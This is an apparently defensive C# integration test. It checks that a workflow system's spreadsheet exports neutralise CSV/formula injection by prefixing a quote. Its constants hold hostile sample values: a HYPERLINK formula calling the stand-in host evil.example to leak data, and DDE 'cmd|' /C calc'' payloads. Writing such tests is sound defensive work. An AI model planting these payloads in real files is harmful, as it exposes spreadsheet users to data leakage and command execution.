using System.IO.Compression;
using System.Text;
using CapacityExit.Workflow.Core.Cases;
using CapacityExit.Workflow.Core.Measures;
using CapacityExit.Workflow.Core.Public;
using CapacityExit.Workflow.Core.Reporting;
using CapacityExit.Workflow.Core.Spreadsheets;
using CapacityExit.Workflow.Domain.Registry;
using CapacityExit.Workflow.Domain.Workflows;
using CapacityExit.Workflow.Integration.Tests.Infrastructure;
using CapacityExit.Workflow.Integration.Tests.Measures;
using Microsoft.Extensions.DependencyInjection;
using MiniExcelLibs;

namespace CapacityExit.Workflow.Integration.Tests.Spreadsheets;

/// <summary>
/// CSV injection (OWASP): an enterprise named <c>=HYPERLINK("http://evil.example/?leak","点我")</c>, a target described
/// as <c>+1+cmd</c> and a census cell <c>@SUM(1)</c> go out of every export the office downloads — the credit exchange
/// file as CSV and .xlsx, the case list, the yellow-card list, the public census results, the replacement ledger, the
/// annual targets and the census problems — as text: a single quote in front, the rest as typed, and no formula anywhere in the file.
/// This class works in 嘉兴 only, on its own database.
/// </summary>
public sealed class ExportFormulaInjectionTests(MeasureHost fixture) : IClassFixture<MeasureHost>
{
    private const string Office = "jiaxing-office";
    private const string EvilName = "=HYPERLINK(\"http://evil.example/?leak\",\"点我\")";
    private const string EvilTarget = "+1+cmd|' /C calc'!A0";
    private const string EvilCell = "@SUM(1+1)*cmd|' /C calc'!A0";

    private readonly WorkflowTestHost _host = fixture.Host;

    [Fact]
    public async Task A_text_that_would_start_a_formula_comes_out_of_every_export_as_text()
    {
        var files = await ExportsAsync();

        Assert.Equal(["credit exchange (CSV)", "credit exchange (.xlsx)", "case list", "yellow-card list", "census results", "replacement ledger", "annual targets", "census problems"],
            files.Select(f => f.Name).ToArray());
        foreach (var (name, content, type, typed) in files)
        {
            var cells = Cells(content, type);
            Assert.True(cells.Contains("'" + typed), $"{name}: '{typed}' is not in the file as text; cells: {string.Join(" | ", cells.Take(40))}");
            Assert.False(cells.Any(c => c.Length > 0 && CellText.FormulaStarts.Contains(c[0])), $"{name}: a cell still starts a formula");
            if (type == ExcelType.XLSX)
            {
                Assert.False(SheetXml(content).Contains("<f>", StringComparison.Ordinal) || SheetXml(content).Contains("<x:f>", StringComparison.Ordinal),
                    $"{name}: the workbook holds a formula");
            }
        }
    }

    [Theory]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("+1", "'+1")]
    [InlineData("-1", "'-1")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\t=1", "'\t=1")]
    [InlineData("\r=1", "'\r=1")]
    [InlineData("郴州示例水泥有限公司", "郴州示例水泥有限公司")]
    [InlineData("a=1", "a=1")]
    [InlineData("", "")]
    public void Only_a_text_that_starts_a_formula_gets_the_quote(string typed, string exported) => Assert.Equal(exported, CellText.Neutralise(typed));

    [Fact]
    public void Numbers_and_dates_stay_numbers_and_dates() =>
        Assert.Equal([-5m, new DateOnly(2026, 1, 5)], new object?[] { -5m, new DateOnly(2026, 1, 5) }.Select(CellText.Neutralise).ToArray());

    private async Task<List<(string Name, byte[] Content, ExcelType Type, string Typed)>> ExportsAsync()
    {
        var counties = await _host.ScalarAsync<string[]>("select array_agg(code order by code) from capacity_exit.jurisdictions where parent_id = (select id from capacity_exit.jurisdictions where code = '330400')");
        var late = await MeasureKit.OpenAsync(_host, counties[0], Industry.Steel, 40m, "万吨/年", EvilName);
        await _host.ExecuteAsync(
            "update capacity_exit.workflow_instances set variables = variables || jsonb_build_object(@key, @day) where case_id = @id",
            ("key", CaseStanding.ExitDeadlineMissedVariable), ("day", "2026-01-05"), ("id", late.CaseId));
        await MeasureKit.ExitedAsync(_host, counties[1], Industry.Cement, 20m, "万吨/年", EvilName);
        var year = await _host.ScalarAsync<int>("select extract(year from finding_date)::int from capacity_exit.cases where id = @id", ("id", late.CaseId));

        return await _host.InScopeAsync(async sp =>
        {
            var files = new List<(string, byte[], ExcelType, string)>();
            var credit = sp.GetRequiredService<CreditExchangeService>();
            files.Add(("credit exchange (CSV)", (await credit.ExportAsync(Office, ExchangeFormat.Csv, CancellationToken.None)).Content, ExcelType.CSV, EvilName));
            files.Add(("credit exchange (.xlsx)", (await credit.ExportAsync(Office, ExchangeFormat.Xlsx, CancellationToken.None)).Content, ExcelType.XLSX, EvilName));

            var list = sp.GetRequiredService<CaseListService>();
            var cases = await ListExports.AllCasesAsync(list, Office, new CaseFilter(), CancellationToken.None);
            files.Add(("case list", Xlsx.Write(cases, ListExports.Cases(list), "案件列表"), ExcelType.XLSX, EvilName));

            var lists = sp.GetRequiredService<PublicListService>();
            var city = await lists.CityAsync("330400", CancellationToken.None);
            files.Add(("yellow-card list", Xlsx.Write(await lists.ListAsync(PublicList.YellowCards, city.Id, year, CancellationToken.None),
                ListExports.PublicList(PublicList.YellowCards), ListExports.PublicListTitle(PublicList.YellowCards)), ExcelType.XLSX, EvilName));
            files.Add(("census results", Xlsx.Write(await lists.ListAsync(PublicList.Census, city.Id, year, CancellationToken.None),
                ListExports.PublicList(PublicList.Census), ListExports.PublicListTitle(PublicList.Census)), ExcelType.XLSX, EvilName));

            files.Add(("replacement ledger", await sp.GetRequiredService<ReplacementService>().LedgerWorkbookAsync(Office, CancellationToken.None), ExcelType.XLSX, EvilName));

            var reporting = sp.GetRequiredService<ReportingService>();
            var today = Domain.Deadlines.ChinaTime.Today(_host.Time);
            await reporting.SetTargetAsync(Office, new TargetInput(counties[2], today.Year, EvilTarget, 10m, "万吨/年", null), CancellationToken.None);
            files.Add(("annual targets", Xlsx.Write(await reporting.TargetStatusAsync(today.Year, city.Id, CancellationToken.None), ListExports.Targets, "年度目标"),
                ExcelType.XLSX, EvilTarget));

            var census = await sp.GetRequiredService<CensusImport>().ImportAsync(Office, CensusSheet(), CancellationToken.None);
            Assert.False(census.Succeeded);
            files.Add(("census problems", CensusImport.ProblemsSheet(census.Problems), ExcelType.XLSX, EvilCell));
            return files;
        });
    }

    /// <summary>A census row whose bureau cell is a formula: refused, the value repeated in the problems.</summary>
    private static byte[] CensusSheet()
    {
        using var stream = new MemoryStream();
        MiniExcel.SaveAs(stream, new[] { CensusImport.Columns.ToDictionary(c => c, c => (object?)(c == CensusImport.Bureau ? EvilCell : "x")) });
        return stream.ToArray();
    }

    private static List<string> Cells(byte[] content, ExcelType type)
    {
        using var stream = new MemoryStream(content);
        return stream.Query(useHeaderRow: false, excelType: type).Cast<IDictionary<string, object?>>()
            .SelectMany(r => r.Values).Select(v => v?.ToString()?.TrimStart('\uFEFF') ?? "").ToList();
    }

    private static string SheetXml(byte[] content)
    {
        using var zip = new ZipArchive(new MemoryStream(content), ZipArchiveMode.Read);
        var text = new StringBuilder();
        foreach (var entry in zip.Entries.Where(e => e.FullName.StartsWith("xl/worksheets/", StringComparison.Ordinal)))
        {
            using var reader = new StreamReader(entry.Open());
            text.Append(reader.ReadToEnd());
        }

        return text.ToString();
    }
}
